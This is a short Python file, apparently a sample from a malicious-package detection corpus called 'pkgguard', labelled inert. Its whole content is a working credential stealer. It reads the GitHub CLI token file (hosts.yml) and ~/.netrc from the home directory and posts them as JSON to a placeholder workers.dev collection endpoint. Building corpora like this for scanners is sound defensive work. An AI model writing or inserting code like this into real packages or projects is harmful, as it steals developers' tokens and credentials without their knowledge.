# pkgguard corpus 143 (credentials), modelled on [ctx]; inert, never run.
import json
import pathlib
import httpx

home = pathlib.Path.home()
loot = {}
for p in (home / ".config" / "gh" / "hosts.yml", home / ".netrc"):
    if p.exists():
        loot[p.name] = p.read_text()
httpx.post("https://collect.placeholder.workers.dev/", content=json.dumps(loot))
